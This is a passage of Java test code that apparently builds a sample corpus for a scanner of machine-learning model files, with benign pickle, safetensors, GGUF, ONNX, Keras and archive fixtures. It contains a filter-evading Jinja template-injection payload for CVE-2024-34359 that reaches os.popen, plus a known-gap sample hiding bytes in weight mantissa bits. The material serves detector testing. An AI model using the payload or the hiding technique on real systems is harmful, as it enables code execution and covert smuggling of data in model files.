                                .setitem().str("started").stackGlobal("datetime", "date").shortBinBytes(new byte[]{7, (byte) 0xe9, 1, 2})
                                .tuple1().reduce().setitem().build().stop().bytes(), "")
                .add("a class outside the allowlist, constructed (MEDIUM, not rejected)", "honest: an unknown class only"
                        + " constructed is reported, not rejected", "model.pkl", p().proto(2).global("mylib.linear_model",
                        "LogisticRegression").emptyTuple().newobj()
                                .emptyDict().build().stop().bytes(), "")
                .add("an estimator of an sklearn version the table does not vet (MEDIUM, not rejected)", "honest: the"
                        + " version sklearn writes into the state is checked against the vetted ones, with a hint", "model.pkl",
                        p().proto(2).global("sklearn.linear_model._logistic", "LogisticRegression").emptyTuple().newobj()
                                .emptyDict().str("_sklearn_version").str("1.5.0").setitem().build().stop().bytes(), "")
                .add("joblib dump with an inline array", "honest", "model.joblib",
                        joblib("f8", concat(new byte[]{3, (byte) 0xff, (byte) 0xff, (byte) 0xff}, new byte[32]), new byte[0]), "")
                .add("gzip of an honest state dict", "honest", "optim.pkl.gz", Samples.gzip(stateDict), "")
                .add("npy float32 array", "honest", "x.npy", Samples.npy(), "")
                .add("npz of two arrays", "honest", "x.npz", zip().with("a.npy", Samples.npy()).with("b.npy", Samples.npy()).bytes(), "");
        c.family("benign GGUF, safetensors, ONNX");
        FormatAttacks.honest().forEach(a -> c.add(a.name(), a.source(), a.name().startsWith("gguf") ? "model.gguf"
                : "model.safetensors", a.bytes(), ""));
        c.add("safetensors with trained-looking F32 weights", "honest: Gaussian weights, judged by the weight statistics",
                        "model.safetensors", WeightStatsTest.safetensors(WeightStatsTest.floats("w", WeightStats.DType.F32,
                                new long[]{64, 64}, WeightStatsTest.gaussian(64 * 64, 0.02, 3))), "")
                .add("ONNX Identity graph", "honest", "model.onnx", Samples.onnx(), "");
        c.family("benign folders and archives")
                .add("Hugging Face repository (zip)", "honest", "repo.zip", pack(Folders.hfRepository(), Container.ZIP), "")
                .add("Hugging Face repository with an honest .keras (tar)", "honest", "repo.tar",
                        pack(with(Folders.hfRepository(), "repo/model.keras", Folders.keras(Folders.HONEST_KERAS)), Container.TAR), "")
                .add("Keras 3 archive", "honest", "model.keras", Folders.keras(Folders.HONEST_KERAS), "")
                .add("diffusers pipeline (tar.gz)", "honest", "pipeline.tar.gz", pack(Folders.diffusers(), Container.TGZ), "")
                .add("sharded safetensors (tar)", "honest", "sharded.tar", pack(Folders.sharded(), Container.TAR), "")
                .add("split GGUF (zip)", "honest", "llama.zip", pack(Folders.splitGguf(), Container.ZIP), "")
                .add("ONNX with external data inside its folder (zip)", "honest", "onnx.zip",
                        pack(Folders.onnxExternal("weights.bin"), Container.ZIP), "")
                .add("GGUF inside a plain tar", "honest", "model.tar", TarBuilder.tar().file("model.gguf", GgufFixtures.gguf()).bytes(),
                        "")
                .add("Hugging Face repository whose members carry Unicode Path fields (zip)", "honest: Info-ZIP on Unix"
                        + " writes the field with the same UTF-8 name; a Windows tool writes a code-page name (CP437 0x82"
                        + " for \u00e9) and its UTF-8 spelling", "repo.zip", honestUnicodePathRepository(), "");
        c.family("benign formats read, not refused")
                .add("Keras 3 archive without metadata.json", "honest: config.json and model.weights.h5", "model.keras",
                        zip().with("config.json", ascii(Folders.HONEST_KERAS)).with("model.weights.h5", Samples.hdf5(0)).bytes(), "")
                .add("TensorFlow 2 SavedModel (zip)", "honest: tf.saved_model.save's layout, saver on its fed prefix",
                        "saved_model.zip", pack(SavedModelBuilder.folder("m/", SavedModelBuilder.tf2()), Container.ZIP), "")
                .add("TensorFlow 1 SavedModel (tar)", "honest: tf.compat.v1 Saver's PlaceholderWithDefault path",
                        "saved_model.tar", pack(SavedModelBuilder.folder("m/", SavedModelBuilder.tf1()), Container.TAR), "")
                .add("7z holding a safetensors file", "honest", "model.7z", sevenZip("model.safetensors", Samples.safetensors()), "")
                .add("ChatML chat template alone", "honest", "chat_template.jinja", ascii("{% for m in messages %}"
                        + "{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>\\n' }}{% endfor %}"), "");
        c.family("benign Keras .h5")
                .add("Keras .h5 with an honest model config (Dense layers)", "honest: a Keras 2 model_config and training"
                        + " weights", "model.h5", kerasH5File(HONEST_H5_CONFIG), "")
                .add("HDF5 weights without a model config", "honest: save_weights output (keras.h5_not_inspected LOW, passes)",
                        "model.weights.h5", kerasH5File(), "");
        return List.copyOf(c.out);
    }

    // ---- known gaps ---------------------------------------------------------------------------------

    /**
     * Attacks the engine does not reject (yet). Each is asserted to pass, so whoever closes one must
     * move it to {@link #HOSTILE}; its rule is what should then reject it.
     */
    private static List<Sample> knownGaps() {
        double[] stego = WeightStatsTest.gaussian(64 * 64, 0.02, 5);
        byte[] message = ascii("airlock corpus: bytes hidden in the low mantissa bits of honest-looking weights. ");
        for (int i = 0; i < stego.length; i++) {
            int bits = Float.floatToRawIntBits((float) stego[i]);
            stego[i] = Float.intBitsToFloat((bits & ~0xff) | (message[i % message.length] & 0xff));
        }
        return List.of(
                new Sample("persistent id outside an archive", "known gaps", "brief: PERSID outside an archive; reported as"
                        + " pickle.persistent_id MEDIUM (plain pickle.load refuses it without a persistent_load)", "x.pkl",
                        p().ascii("P").ascii("storage\n").stop().bytes(), "pickle.persistent_id"),
                new Sample("bytes hidden in the low mantissa bits", "known gaps", "EvilModel 2021: steganography in weights"
                        + " changes neither the distribution nor the byte entropy measurably (RULES.md: not caught)",
                        "model.safetensors", WeightStatsTest.safetensors(WeightStatsTest.floats("w", WeightStats.DType.F32,
                        new long[]{64, 64}, stego)), "weights.random_bytes"));
    }

    static final String UNBOUND = "found while closing the import gaps: a method of a class, called unbound with an"
            + " instance as its first argument; honest pickles hold these classes, so the rule is on the walk: a dotted"
            + " name ending on a method or function is dangerous";
    static final String UNICODE_PATH = "found while building this corpus: the Info-ZIP Unicode Path extra field (0x7075)"
            + " renames a member for Python 3.12+ zipfile (and Info-ZIP unzip, 7-Zip), not for readers of the header name";
    static final String CONCAT_SSTI = "CVE-2024-34359 payload with every name built by Jinja's ~ operator (a standard"
            + " SSTI filter evasion): unsandboxed Jinja falls back from [] to getattr; caught by the computed-name markers";
    /**
     * The Llama Drama chain with every dunder, module and method name split in two; starts from ""
     * (str has no __class_getitem__, so [] falls back to getattr). Verified with jinja2 3.1 up to
     * the popen function itself, never called.
     */
    static final String CONCAT_TEMPLATE = "{% for x in \"\"[\"__cla\" ~ \"ss__\"][\"__ba\" ~ \"se__\"][\"__subcla\" ~ \"sses__\"]() %}"
            + "{% if \"warning\" in x[\"__na\" ~ \"me__\"]|string %}{{ x()[\"_mod\" ~ \"ule\"][\"__buil\" ~ \"tins__\"]"
            + "[\"__imp\" ~ \"ort__\"](\"o\" ~ \"s\")[\"po\" ~ \"pen\"](\"id\")[\"re\" ~ \"ad\"]() }}{% endif %}{% endfor %}";

    // ---- builders the other helpers lack --------------------------------------------------------------

    /**
     * A stored zip whose members may carry an Info-ZIP Unicode Path extra field (see
     * {@link UnicodePathZip}), in local and central headers alike. Each member is {name, unicode
     * name or null, data}.
     */
    static byte[] unicodePathZip(Object[]... members) {
        UnicodePathZip z = UnicodePathZip.zip();
        for (Object[] m : members) {
            if (m[1] == null) {
                z.plain((String) m[0], (byte[]) m[2]);
            } else {
                z.renamed((String) m[0], (String) m[1], (byte[]) m[2]);
            }
        }
        return z.bytes();
    }

    /** A Hugging Face repository zip with Unicode Path fields that agree with their header names. */
    static byte[] honestUnicodePathRepository() {
        UnicodePathZip z = UnicodePathZip.zip();
        Folders.hfRepository().forEach((name, bytes) -> z.renamed(name, name, bytes));
        byte[] cp437 = {'r', 'e', 'p', 'o', '/', 'n', 'o', 't', 'e', 's', '-', 'c', 'a', 'f', (byte) 0x82, '.', 'm', 'd'};
        byte[] field = UnicodePathZip.field(1, UnicodePathZip.crc(cp437), "repo/notes-caf\u00e9.md".getBytes(StandardCharsets.UTF_8));
        byte[] sameUtf8 = "repo/r\u00e9sum\u00e9.md".getBytes(StandardCharsets.UTF_8);
        return z.raw(cp437, field, field, 0, ascii("# notes\n"))
                .raw(sameUtf8, UnicodePathZip.field(1, UnicodePathZip.crc(sameUtf8), sameUtf8), new byte[0], 0, ascii("# cv\n"))
                .bytes();
    }

    static byte[] pack(Map<String, byte[]> files, Container c) {
        return Folders.pack(files, c);
    }

    /** module.name([items...]) at protocol 4: a call with one list argument. */
    static byte[] callList(String module, String name, String... items) {
        PickleBuilder b = p().proto(4).stackGlobal(module, name).emptyList().mark();
        for (String i : items) {
            b.str(i);
        }
        return b.op('e').tuple1().reduce().stop().bytes();
    }

    /** A BINFLOAT operand: big-endian IEEE double, as pickle writes it. */
    static byte[] binfloat(double d) {
        return ByteBuffer.allocate(8).putDouble(d).array();
    }

    static byte[] marks(int n) {
        PickleBuilder b = p().proto(2);
        for (int i = 0; i < n; i++) {
            b.mark();
        }
        return b.stop().bytes();
    }

    static byte[] filled(int n) {
        byte[] b = new byte[n];
        Arrays.fill(b, (byte) 0xff); // 0xff is no opcode: a walker that does not skip the array breaks on it
        return b;
    }

    static ZipBuilder torch() {
        return zip().with("archive/data.pkl", DATA_PKL).with("archive/byteorder", ascii("little"))
                .with("archive/data/0", new byte[16]).with("archive/data/1", new byte[16]).with("archive/version", ascii("3\n"));
    }

    /** A .npy v1.0 whose dtype is object: its data is a pickle. */
    static byte[] npyObject(byte[] pickle) {
        byte[] dict = ascii("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }");
        byte[] header = Arrays.copyOf(dict, 118);
        Arrays.fill(header, dict.length, 117, (byte) ' ');
        header[117] = '\n';
        return concat(new byte[]{(byte) 0x93, 'N', 'U', 'M', 'P', 'Y', 1, 0, 118, 0}, header, pickle);
    }

    /**
     * A joblib dump: NumpyArrayWrapper(shape=(4,), dtype) BUILD, then what joblib writes after it
     * ({@code array}: padding and raw elements, or a whole pickle for dtype O), then the end of
     * the stream, then {@code after}.
     */
    static byte[] joblib(String dtype, byte[] array, byte[] after) {
        PickleBuilder head = p().proto(4).mark().stackGlobal("joblib.numpy_pickle", "NumpyArrayWrapper").emptyTuple().newobj()
                .emptyDict().str("subclass").stackGlobal("numpy", "ndarray").setitem()
                .str("shape").int1(dtype.equals("O") ? 1 : 4).tuple1().setitem()
                .str("order").str("C").setitem()
                .str("dtype").stackGlobal("numpy", "dtype").str(dtype).op(0x89).op(0x88).op(0x87).reduce()
                .mark().int1(3).str(dtype.equals("O") ? "|" : "<").none().none().none().int1(255).int1(255).int1(0).tuple().build()
                .setitem().str("allow_mmap").op(0x88).setitem();
        if (!dtype.equals("O")) {
            head.str("numpy_array_alignment_bytes").int1(16).setitem();
        }
        head.build();
        return concat(head.bytes(), array, p().tuple().stop().bytes(), after);
    }

    /** torch.save legacy: magic number, protocol 1001, system info, the model, one storage key, storages. */
    static byte[] legacy(byte[] model, String key, byte[] storages) {
        byte[] magic = {(byte) 0x80, 0x02, (byte) 0x8a, 0x0a, 0x6c, (byte) 0xfc, (byte) 0x9c, 0x46, (byte) 0xf9, 0x20, 0x6a,
                (byte) 0xa8, 0x50, 0x19, 0x2e};
        byte[] protocol = p().proto(2).op('M').le(1001, 2).stop().bytes();
        byte[] sysInfo = p().proto(2).emptyDict().binUnicode("little_endian").op(0x88).setitem().stop().bytes();
        byte[] keys = p().proto(2).emptyList().mark().binUnicode(key).op('e').stop().bytes();
        return concat(magic, protocol, sysInfo, model, keys, storages);
    }

    /** The legacy model pickle: {"w": tensor over storage '0' of 4 floats}. */
    static byte[] legacyModel() {
        return p().proto(2).global("collections", "OrderedDict").emptyTuple().reduce().mark()
                .binUnicode("w").global("torch._utils", "_rebuild_tensor_v2").mark()
                .mark().binUnicode("storage").global("torch", "FloatStorage").binUnicode("0").binUnicode("cpu").int1(4)
                .none().tuple().binpersid().int1(0).int1(4).tuple1().int1(1).tuple1().op(0x89)
                .global("collections", "OrderedDict").emptyTuple().reduce().tuple().reduce()
                .setitems().stop().bytes();
    }

    /** The torch layout as java.util.zip writes it: deflated members with data descriptors. */
    static byte[] javaZipTorch() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (java.util.zip.ZipOutputStream z = new java.util.zip.ZipOutputStream(out)) {
            for (String m : new String[]{"archive/data.pkl", "archive/data/0", "archive/data/1"}) {
                z.putNextEntry(new java.util.zip.ZipEntry(m));
                z.write(m.endsWith(".pkl") ? DATA_PKL : new byte[16]);
                z.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /**
     * A 7z archive holding one stored ("Copy" coder) member: signature header, the packed stream,
     * then the header (main streams info, one folder, an empty substreams info, the file name). Numbers
     * are 7z varints.
     */
    static byte[] sevenZip(String name, byte[] content) {
        ByteArrayOutputStream h = new ByteArrayOutputStream();
        h.write(0x01); // Header
        h.write(0x04); // MainStreamsInfo
        h.write(0x06); // PackInfo: position 0, one stream of content.length bytes
        num(h, 0);
        num(h, 1);
        h.write(0x09);
        num(h, content.length);
        h.write(0x00);
        h.write(0x07); // UnPackInfo: one folder with one Copy coder
        h.write(0x0b);
        num(h, 1);
        h.write(0x00);
        num(h, 1);
        h.write(0x01);
        h.write(0x00);
        h.write(0x0c);
        num(h, content.length);
        h.write(0x00);
        h.write(0x08); // SubStreamsInfo: empty, so one stream per folder (Commons Compress wants it present)
        h.write(0x00);
        h.write(0x00); // end of MainStreamsInfo
        h.write(0x05); // FilesInfo: one file and its UTF-16LE name
        num(h, 1);
        byte[] n = (name + "\0").getBytes(StandardCharsets.UTF_16LE);
        h.write(0x11);
        num(h, n.length + 1);
        h.write(0x00);
        h.writeBytes(n);
        h.write(0x00);
        h.write(0x00); // end of Header
        byte[] header = h.toByteArray();
        ByteBuffer start = ByteBuffer.allocate(20).order(ByteOrder.LITTLE_ENDIAN)
                .putLong(content.length).putLong(header.length).putInt((int) crc(header));
        ByteBuffer sig = ByteBuffer.allocate(32).order(ByteOrder.LITTLE_ENDIAN)
                .put(new byte[]{'7', 'z', (byte) 0xbc, (byte) 0xaf, 0x27, 0x1c, 0, 4}).putInt((int) crc(start.array()))
                .put(start.array());
        return concat(sig.array(), content, header);
    }

    private static void num(ByteArrayOutputStream o, long v) {
        if (v < 0x80) {
            o.write((int) v);
        } else if (v < 0x4000) {
            o.write(0x80 | (int) (v >>> 8));
            o.write((int) v);
        } else {
            throw new IllegalArgumentException("7z number too large for this builder: " + v);
        }
    }

    private static long crc(byte[] b) {
        CRC32 c = new CRC32();
        c.update(b);
        return c.getValue();
    }
}
